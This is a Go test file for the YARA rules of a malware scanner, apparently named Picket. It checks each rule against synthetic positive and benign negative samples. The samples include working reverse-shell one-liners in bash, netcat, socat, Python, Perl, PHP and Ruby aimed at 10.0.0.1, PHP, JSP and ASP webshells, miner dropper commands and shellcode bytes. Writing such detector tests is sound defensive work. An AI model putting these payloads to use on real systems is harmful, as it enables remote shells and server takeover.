package yara_test

import (
	"bytes"
	"context"
	"io/fs"
	"regexp"
	"sort"
	"strings"
	"sync"
	"testing"

	"github.com/picket-cdr/picket/internal/analyzer"
	"github.com/picket-cdr/picket/internal/analyzer/analyzertest"
	"github.com/picket-cdr/picket/internal/analyzer/yara"
	"github.com/picket-cdr/picket/internal/finding"
)

func requireYARA(t testing.TB) {
	t.Helper()
	if err := yara.Unavailable(); err != nil {
		t.Skipf("skipping: %v", err)
	}
}

var (
	defaultOnce sync.Once
	defaultA    *yara.Analyzer
	defaultErr  error
)

// defaults returns an analyzer with only Picket's rules.
func defaults(t testing.TB) *yara.Analyzer {
	t.Helper()
	requireYARA(t)
	defaultOnce.Do(func() { defaultA, defaultErr = yara.New(yara.Options{}) })
	if defaultErr != nil {
		t.Fatal(defaultErr)
	}
	return defaultA
}

// eicar is the EICAR test string, assembled so that no source file of
// Picket starts with it.
var eicar = strings.Join([]string{`X5O!P%@AP[4\PZX54(P^)7CC)7}$`, `EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`}, "")

func elf(parts ...string) string {
	return "\x7fELF\x02\x01\x01\x00" + strings.Repeat("\x00", 56) + strings.Join(parts, "\x00") + "\x00"
}

func bigELF(parts ...string) string {
	return elf(parts...) + strings.Repeat("\x90", 8<<10)
}

type sample struct {
	path, content string
	mode          fs.FileMode // default 0o644 (0o755 for ELF)
}

// ruleCases: for every default rule, files it must flag and look-alikes it
// must not. Every sample is synthetic; the only real test file is EICAR's.
var ruleCases = []struct {
	rule      string
	positives []sample
	negatives []sample
}{
	{"PKT-YARA-EICAR_Test_File",
		[]sample{{path: "/tmp/eicar.com", content: eicar}, {path: "/srv/app/eicar.com.txt", content: eicar + "\r\n"}},
		[]sample{{path: "/tmp/eicar.com", content: "x" + eicar}, {path: "/tmp/eicar.com", content: eicar + strings.Repeat(" ", 100)}}},
	{"PKT-YARA-Miner_XMRig_Binary",
		[]sample{{path: "/usr/local/bin/kworker", content: bigELF("XMRig 6.21.0", "--donate-level", "cryptonight", "randomx", "nicehash")}},
		[]sample{{path: "/usr/local/bin/tool", content: bigELF("xmrig", "donate-level")},
			{path: "/tmp/notes.txt", content: "xmrig donate-level cryptonight randomx nicehash"}}},
	{"PKT-YARA-Miner_Stratum_Binary",
		[]sample{{path: "/usr/bin/.cache/minerd", content: bigELF("stratum+tcp://", "mining.subscribe", "mining.authorize", "mining.notify")}},
		[]sample{{path: "/usr/bin/client", content: bigELF("mining.subscribe")}}},
	{"PKT-YARA-Miner_Config",
		[]sample{{path: "/opt/app/config.json", content: `{"autosave": true, "cpu": {"enabled": true, "huge-pages": true},
 "donate-level": 1, "randomx": {"init": -1},
 "pools": [{"algo": "rx/0", "url": "pool.example.net:3333", "user": "44AFFq5kSiGBoZ", "pass": "x", "rig-id": null}]}`}},
		[]sample{{path: "/opt/app/config.json", content: `{"pools": [{"name": "db", "url": "db.internal:5432", "user": "app", "size": 10}]}`}}},
	{"PKT-YARA-Miner_Pool_Reference",
		[]sample{{path: "/entrypoint.sh", mode: 0o755, content: "#!/bin/sh\n./kthreadd -o stratum+tcp://pool.example.net:3333 -u WALLET -p x\n"},
			{path: "/tmp/run.sh", content: "nohup xmrig --url pool.example.net:443 --tls &\n"}},
		[]sample{{path: "/tmp/run.sh", content: "# the stratum protocol is documented elsewhere\nexec app --url https://example.net\n"}}},
	{"PKT-YARA-Miner_Pool_Domain",
		[]sample{{path: "/tmp/.x/start.sh", content: "POOL=pool.supportxmr.com:443\n"}},
		[]sample{{path: "/tmp/start.sh", content: "API=api.example.com:443\n"}}},
	{"PKT-YARA-Miner_Dropper_Script",
		[]sample{{path: "/tmp/init.sh", content: "#!/bin/bash\npkill -f kdevtmpfsi\nchattr -i /etc/ld.so.preload\necho 0 > /proc/sys/kernel/nmi_watchdog\nhistory -c\n"}},
		[]sample{{path: "/docker-entrypoint.sh", mode: 0o755, content: "#!/bin/sh\nset -e\niptables -F\nexec nginx -g 'daemon off;'\n"}}},
	{"PKT-YARA-RevShell_Bash_DevTcp",
		[]sample{{path: "/tmp/x.sh", content: "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1\n"},
			{path: "/etc/cron.d/job", content: "* * * * * root /bin/bash -c 'sh -i >& /dev/udp/10.0.0.1/53 0>&1'\n"},
			{path: "/tmp/y.sh", content: "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196\n"}},
		[]sample{{path: "/usr/local/bin/healthcheck", mode: 0o755, content: "#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/8080\necho -e 'GET /health HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3\n"},
			{path: "/usr/local/bin/wait", mode: 0o755, content: "#!/bin/bash\ntimeout 1 bash -c '</dev/tcp/db/5432'\n"}}},
	{"PKT-YARA-RevShell_Netcat",
		[]sample{{path: "/tmp/a.sh", content: "nc -e /bin/sh 10.0.0.1 4242\n"},
			{path: "/tmp/b.sh", content: "nc 10.0.0.1 4242 -e /bin/bash\n"},
			{path: "/tmp/c.sh", content: "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f\n"},
			{path: "/tmp/d.sh", content: "ncat 10.0.0.1 4242 --sh-exec /bin/sh\n"}},
		[]sample{{path: "/usr/local/bin/wait-for-it.sh", mode: 0o755, content: "#!/bin/sh\nwhile ! nc -z db 5432; do sleep 1; done\nnc -l -p 8080 < /etc/motd\n"}}},
	{"PKT-YARA-RevShell_Socat",
		[]sample{{path: "/tmp/s.sh", content: "socat tcp-connect:10.0.0.1:4242 exec:/bin/sh,pty,stderr,setsid,sigint,sane\n"},
			{path: "/tmp/t.sh", content: "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:bash,pty,stderr\n"}},
		[]sample{{path: "/usr/local/bin/forward", mode: 0o755, content: "#!/bin/sh\nexec socat TCP-LISTEN:8080,fork TCP:backend:80\n"}}},
	{"PKT-YARA-RevShell_Python",
		[]sample{{path: "/tmp/r.py", content: `import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn("/bin/sh")`},
			{path: "/tmp/r2.py", content: `s=socket.socket();s.connect(("h",1));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])`}},
		[]sample{{path: "/app/daemon.py", content: "import os, socket\nnull = open(os.devnull)\nos.dup2(null.fileno(), 0)\ns = socket.socket()\ns.connect(('db', 5432))\nsubprocess.call(['ls'])\n"}}},
	{"PKT-YARA-RevShell_Perl",
		[]sample{{path: "/tmp/r.pl", content: `use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};`}},
		[]sample{{path: "/app/client.pl", content: "use Socket;\nsocket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));\nconnect(S,sockaddr_in(80,inet_aton('h')));\nprint S \"GET /\";\n"}}},
	{"PKT-YARA-RevShell_PHP",
		[]sample{{path: "/tmp/r.sh", content: `php -r '$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");'`},
			{path: "/var/www/html/rs.php", content: "<?php\n$ip = '10.0.0.1';\n$shell = 'uname -a; w; id; /bin/sh -i';\n$sock = fsockopen($ip, $port, $errno, $errstr, 30);\n"}},
		[]sample{{path: "/var/www/html/fetch.php", content: "<?php\n$fp = fsockopen(\"www.example.com\", 80, $errno, $errstr, 30);\nfwrite($fp, \"GET / HTTP/1.0\\r\\n\\r\\n\");\n"}}},
	{"PKT-YARA-RevShell_Ruby_Lua",
		[]sample{{path: "/tmp/r.rb", content: `ruby -rsocket -e'f=TCPSocket.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`}},
		[]sample{{path: "/app/client.rb", content: "require 'socket'\ns = TCPSocket.open('db', 5432)\ns.puts 'hello'\n"}}},
	{"PKT-YARA-RevShell_Tiny_ELF",
		[]sample{{path: "/tmp/x", mode: 0o755, content: elf("\x6a\x29\x58\x99\x6a\x02\x5f\x6a\x01\x5e\x0f\x05")},
			{path: "/tmp/y", mode: 0o755, content: elf("\x31\xc0\x50\x68/bin//sh\x89\xe3\xcd\x80")}},
		[]sample{{path: "/usr/bin/app", content: bigELF("/bin/sh", "\x0f\x05")}}},
	{"PKT-YARA-HackTool_Tunnel",
		[]sample{{path: "/usr/local/bin/svc", content: bigELF("github.com/jpillora/chisel/share/tunnel")}},
		[]sample{{path: "/tmp/README.sh", content: "# see github.com/jpillora/chisel/share for a tunnel\n"}}},
	{"PKT-YARA-Backdoor_C2_Implant",
		[]sample{{path: "/usr/local/bin/update", content: bigELF("github.com/bishopfox/sliver/implant/sliver/transports")}},
		[]sample{{path: "/usr/local/bin/update", content: bigELF("github.com/bishopfox/other")}}},
	{"PKT-YARA-Botnet_Mirai",
		[]sample{{path: "/tmp/.m", mode: 0o755, content: bigELF("", "PMMV", "ZA\x11\x17\x13\x13", "TKXZT", "CFOKL", "QWRRMPV")}},
		[]sample{{path: "/usr/bin/x", content: bigELF("", "PMMV", "CFOKL")}}},
	{"PKT-YARA-Botnet_Gafgyt",
		[]sample{{path: "/tmp/g", mode: 0o755, content: bigELF("LOLNOGTFO", "KILLATTK", "GETLOCALIP", "SCANNER ON")}},
		[]sample{{path: "/usr/bin/x", content: bigELF("LOLNOGTFO", "GETLOCALIP")}}},
	{"PKT-YARA-Botnet_Kaiten",
		[]sample{{path: "/tmp/k", mode: 0o755, content: bigELF("NOTICE %s :GETSPOOFS", "NOTICE %s :TSUNAMI <target> <secs>")}},
		[]sample{{path: "/usr/bin/ircd", content: bigELF("NOTICE %s :KILLALL")}}},
	{"PKT-YARA-Rootkit_LibProcessHider",
		[]sample{{path: "/usr/local/lib/libprocesshider.so", content: bigELF("readdir", "readdir64", "/proc/self/fd/%d", "/proc/%s/stat", "%d (%[^)]s", "Error in dlsym: %s\n")}},
		[]sample{{path: "/usr/lib/libprocps.so.8", content: bigELF("readdir", "/proc/self/fd/%d", "/proc/%s/stat", "%d (%[^)]s")}}},
	{"PKT-YARA-Rootkit_Kernel_Module",
		[]sample{{path: "/lib/modules/6.1.0/extra/dm.ko", content: bigELF("diamorphine_secret", "hacked_kill")},
			{path: "/reptile/reptile.ko", content: bigELF("/reptile/reptile_cmd", "/reptile/reptile_shell")}},
		[]sample{{path: "/lib/modules/6.1.0/kernel/x.ko", content: bigELF("module_hide")}}},
	{"PKT-YARA-Persistence_LD_SO_Preload",
		[]sample{{path: "/etc/ld.so.preload", content: "/usr/local/lib/libprocesshider.so\n"}},
		[]sample{{path: "/tmp/ld.so.preload.bak", content: "/usr/local/lib/libprocesshider.so\n"}}},
	{"PKT-YARA-Webshell_China_Chopper",
		[]sample{{path: "/var/www/html/x.php", content: `<?php @eval($_POST['password']);?>`},
			{path: "/var/www/html/x.asp", content: `<%eval request("pass")%>`},
			{path: "/var/www/html/x.aspx", content: `<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>`}},
		[]sample{{path: "/var/www/html/form.php", content: `<?php echo htmlspecialchars($_POST['name']); ?>`}}},
	{"PKT-YARA-Webshell_PHP_Request_Exec",
		[]sample{{path: "/var/www/html/c.php", content: `<?php system($_GET['cmd']); ?>`},
			{path: "/var/www/html/d.php", content: `<?php $_GET['f']($_GET['a']); ?>`},
			{path: "/var/www/html/e.php", content: "<?php echo `$_REQUEST[c]`; ?>"},
			{path: "/var/www/html/f.php", content: `<?php eval(base64_decode($_POST['z'])); ?>`}},
		[]sample{{path: "/var/www/html/list.php", content: `<?php $f = escapeshellarg($_GET['dir']); system("ls " . $f); ?>`}}},
	{"PKT-YARA-Webshell_PHP_Obfuscated_Eval",
		[]sample{{path: "/var/www/html/wp-content/x.php", content: "<?php eval(gzinflate(base64_decode('" + strings.Repeat("SGVsbG8gV29ybGQ", 20) + "')));"}},
		[]sample{{path: "/var/www/html/ok.php", content: `<?php $data = base64_decode($blob); echo $data; ?>`}}},
	{"PKT-YARA-Webshell_PHP_Families",
		[]sample{{path: "/var/www/html/b.php", content: "<?php\n$GLOBALS['packer']['title'] = \"b374k shell\";\n"},
			{path: "/var/www/html/w.php", content: "<?php\nfunction wsoLogin() {}\nfunction wsoHeader() {}\n$default_action = 'FilesMan';\n"}},
		[]sample{{path: "/var/www/html/fm.php", content: "<?php\n// a FilesMan-like listing\n"}}},
	{"PKT-YARA-Webshell_JSP_Cmd",
		[]sample{{path: "/usr/local/tomcat/webapps/ROOT/cmd.jsp", content: `<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>`},
			{path: "/usr/local/tomcat/webapps/ROOT/c2.jsp", content: `<% String c = request.getParameter("cmd"); Process p = Runtime.getRuntime().exec(c); %>`}},
		[]sample{{path: "/usr/local/tomcat/webapps/ROOT/hello.jsp", content: `<% String n = request.getParameter("name"); out.println(n); %>`}}},
	{"PKT-YARA-Webshell_JSP_ClassLoader",
		[]sample{{path: "/usr/local/tomcat/webapps/ROOT/s.jsp", content: `<%@page import="java.util.*,javax.crypto.*"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%Cipher c=Cipher.getInstance("AES");c.init(2,new javax.crypto.spec.SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);%>`}},
		[]sample{{path: "/usr/local/tomcat/webapps/ROOT/crypto.jsp", content: `<% Cipher c = Cipher.getInstance("AES"); String p = request.getParameter("p"); %>`}}},
	{"PKT-YARA-Webshell_ASP_Cmd",
		[]sample{{path: "/var/www/cmd.aspx", content: `<%@ Page Language="C#" %><% ProcessStartInfo si = new ProcessStartInfo("cmd.exe"); si.Arguments = "/c " + Request.Form["c"]; Process.Start(si); %>`},
			{path: "/var/www/cmd.asp", content: `<% Set s = CreateObject("WScript.Shell") : Set e = s.Exec("cmd /c " & Request("c")) %>`}},
		[]sample{{path: "/var/www/form.aspx", content: `<%@ Page Language="C#" %><% Response.Write(Server.HtmlEncode(Request.Form["name"])); %>`}}},
}

func scan(t *testing.T, a analyzer.Analyzer, s sample) []*finding.Finding {
	t.Helper()
	mode := s.mode
	if mode == 0 {
		mode = 0o644
		if strings.HasPrefix(s.content, "\x7fELF") {
			mode = 0o755
		}
	}
	in := analyzertest.Input(s.path, []byte(s.content), mode)
	if !a.Required(s.path, in.Info) {
		t.Fatalf("%s not required (mode %v)", s.path, mode)
	}
	res, err := a.Analyze(context.Background(), in)
	if err != nil {
		t.Fatalf("%s: %v", s.path, err)
	}
	return res.Findings
}

func ruleIDs(fs []*finding.Finding) []string {
	var out []string
	for _, f := range fs {
		out = append(out, f.RuleID)
	}
	sort.Strings(out)
	return out
}

func TestDefaultRules(t *testing.T) {
	a := defaults(t)
	tested := map[string]bool{}
	for _, c := range ruleCases {
		tested[c.rule] = true
		t.Run(c.rule, func(t *testing.T) {
			for _, s := range c.positives {
				got := ruleIDs(scan(t, a, s))
				found := false
				for _, id := range got {
					found = found || id == c.rule
				}
				if !found {
					t.Errorf("%s: got %v, want %s", s.path, got, c.rule)
				}
			}
			for _, s := range c.negatives {
				if got := ruleIDs(scan(t, a, s)); len(got) > 0 {
					t.Errorf("negative %s: got %v", s.path, got)
				}
			}
		})
	}
	// Every public default rule has a case.
	n, err := a.RuleCount()
	if err != nil {
		t.Fatal(err)
	}
	if n != len(tested) {
		t.Errorf("%d default rules, %d tested", n, len(tested))
	}
}

// Every default rule carries the metadata findings need.
func TestDefaultRuleMetadata(t *testing.T) {
	requireYARA(t)
	src, err := fs.ReadFile(yara.DefaultRules(), "any/eicar.yar")
	if err != nil || !bytes.Contains(src, []byte("PKT_EICAR_Test_File")) {
		t.Fatalf("embedded rules: %v", err)
	}
	a := defaults(t)
	for _, c := range ruleCases {
		s := c.positives[0]
		fs := scan(t, a, s)
		for _, f := range fs {
			if f.RuleID != c.rule {
				continue
			}
			if f.Kind != finding.KindMalware || f.Severity < finding.Medium || f.Title == "" || f.Evidence == "" && c.rule != "PKT-YARA-Persistence_LD_SO_Preload" ||
				f.Attributes["author"] != "Picket" || f.Attributes["ruleset"] != "picket" || f.Location.Path != s.path {
				t.Errorf("%s: finding %+v", c.rule, f)
			}
		}
	}
}

// The rule sources are embedded in the picket binary: they must not match
// themselves, neither as text nor inside an executable.
func TestRulesDoNotMatchTheirOwnSource(t *testing.T) {
	a := defaults(t)
	var all []byte
	for _, r := range ruleFiles(t) {
		all = append(all, r.text...)
	}
	for _, s := range []sample{
		{path: "/tmp/rules.yar", content: string(all)},
		{path: "/usr/local/bin/picket", content: elf(string(all))},
	} {
		if got := ruleIDs(scan(t, a, s)); len(got) > 0 {
			t.Errorf("%s: %v", s.path, got)
		}
	}
}

type ruleFile struct {
	name string // "native/miners.yar"
	text []byte
}

// ruleFiles returns every embedded rule file.
func ruleFiles(t *testing.T) []ruleFile {
	t.Helper()
	var out []ruleFile
	err := fs.WalkDir(yara.DefaultRules(), ".", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := fs.ReadFile(yara.DefaultRules(), p)
		out = append(out, ruleFile{name: p, text: b})
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// The default rules are compiled in two sets, one for native binaries and
// one for other files (see engine): that is only sound when each rule's
// condition itself requires its kind of file. Rules in native/ must start
// with PKT_Native_Binary or PKT_ELF, rules in text/ with "not
// PKT_Native_Binary", and no file may sit outside the scope directories.
func TestDefaultRuleScopes(t *testing.T) {
	commentRE := regexp.MustCompile(`(?m)^\s*//.*$`)
	ruleRE := regexp.MustCompile(`(?s)\brule\s+(\w+)[^{]*\{.*?\bcondition:\s*(.*?)\n\}`)
	prefixes := map[string][]string{
		"native": {"PKT_Native_Binary and", "PKT_ELF and"},
		"text":   {"not PKT_Native_Binary and"},
		"any":    nil,
	}
	seen := map[string]string{}
	total := 0
	for _, f := range ruleFiles(t) {
		dir, _, ok := strings.Cut(f.name, "/")
		if !ok {
			if f.name != "common.yar" {
				t.Errorf("%s: rule files belong in any/, native/ or text/", f.name)
			}
			continue
		}
		want, known := prefixes[dir]
		if !known {
			t.Errorf("%s: unknown scope directory %q", f.name, dir)
			continue
		}
		ms := ruleRE.FindAllSubmatch(f.text, -1)
		if len(ms) == 0 {
			t.Errorf("%s: no rules", f.name)
		}
		for _, m := range ms {
			name, cond := string(m[1]), strings.Join(strings.Fields(commentRE.ReplaceAllString(string(m[2]), "")), " ")
			total++
			if other, dup := seen[name]; dup {
				t.Errorf("%s: rule %s also in %s", f.name, name, other)
			}
			seen[name] = f.name
			if want == nil {
				continue
			}
			ok := false
			for _, p := range want {
				ok = ok || strings.HasPrefix(cond, p+" ")
			}
			if !ok {
				t.Errorf("%s: rule %s: condition %q must start with one of %q", f.name, name, cond, want)
			}
		}
	}
	a := defaults(t)
	n, err := a.RuleCount()
	if err != nil {
		t.Fatal(err)
	}
	if n != total {
		t.Errorf("%d public rules compiled, %d in the files", n, total)
	}
}
